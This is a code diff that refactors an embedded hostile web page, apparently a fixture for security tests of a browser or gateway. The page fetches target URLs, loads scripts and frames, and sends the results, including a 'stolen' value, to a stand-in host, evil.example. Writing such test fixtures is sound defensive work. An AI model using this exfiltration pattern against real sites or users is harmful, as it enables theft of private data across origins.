@@ -12,9 +12,12 @@ enum BrowserScripts {
     import http.server, sys, threading, urllib.parse
     ADDRESS, PORT, GATEWAY, SECRETS = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4].split(",")
     PAGE = b"""<!doctype html><title>hostile</title><script>
-    const report = (what, text) => fetch('http://evil.example:%PORT%/report/' + what + '/' + encodeURIComponent(text), {mode: 'no-cors'})
+    const reports = 'http://evil.example:%PORT%/report/'
+    const report = (what, text) => fetch(reports + what + '/' + encodeURIComponent(text), {mode: 'no-cors'})
     const read = async (what, url, how) => {
-      try { const answer = await fetch(url, how); await report(what, await answer.text()) } catch (error) { await report(what, 'failed') }
+      let text = 'failed'
+      try { text = await (await fetch(url, how)).text() } catch (error) {}
+      await report(what, text)
     }
     const load = (what, url) => new Promise(done => {
       window.stolen = ''
@@ -22,7 +25,11 @@ enum BrowserScripts {
       script.onload = script.onerror = async () => { await report(what, window.stolen); done() }
       document.head.append(script)
     })
-    const frame = (url) => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame) }
+    const frame = (url) => {
+      const frame = document.createElement('iframe')
+      frame.src = url
+      document.body.append(frame)
+    }
     window.onload = async () => {
       const own = location.port == '%GATEPORT%' || location.host == '%GATEWAY%'
       if (own && location.host != '%GATEWAY%') {
